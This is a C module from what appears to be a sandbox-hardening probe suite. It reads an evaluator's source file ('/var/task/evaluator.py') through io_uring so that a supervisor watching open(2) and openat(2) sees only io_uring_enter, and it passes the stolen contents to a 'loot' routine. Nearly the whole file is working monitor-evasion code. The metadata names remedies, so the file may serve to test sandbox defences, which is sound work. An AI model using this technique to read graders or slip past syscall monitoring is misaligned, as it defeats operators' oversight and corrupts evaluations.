// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a filter or a supervisor that watches open(2) and openat(2).
 * Means: io_uring as a second table of system calls: OPENAT and READ are entries of a queue, and
 *        all that can be seen from outside is io_uring_enter(2).
 */
#include "attacks/attack.h"
#include "attacks/filter-evasion/ring.h"

#include <fcntl.h>
#include <stdint.h>

static enum claim run(const struct brief *b)
{
	static char source[65536];
	struct ring ring;
	int fd, n;

	attempting(b);
	if (ring_open(&ring))
		return denied("io_uring_setup");
	fd = ring_do(&ring, (struct io_uring_sqe){ .opcode = IORING_OP_OPENAT,
						   .fd = AT_FDCWD,
						   .addr = (uintptr_t)"/var/task/evaluator.py",
						   .open_flags = O_RDONLY });
	if (fd < 0)
		return denied("IORING_OP_OPENAT");
	n = ring_do(&ring, (struct io_uring_sqe){ .opcode = IORING_OP_READ,
						  .fd = fd,
						  .addr = (uintptr_t)source,
						  .len = sizeof(source) });
	if (n < 0)
		return denied("IORING_OP_READ");
	loot(source, (size_t)n);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the evaluator's source is read although open(2) is watched",
	.means = "io_uring: OPENAT and READ as entries of a queue, not as system calls",
	.oracle = "secret:task",
	.needs = NEED_IO_URING,
	.quick = true,
	.id = "SCF-08",
	.attack_id = "T1106, T1005, CWE-693",
	.remedy = "seccomp without io_uring_setup(2); kernel.io_uring_disabled; Landlock",
	.refs = (const char *const[]){ "io_uring(7)", NULL },
	.run = run,
};
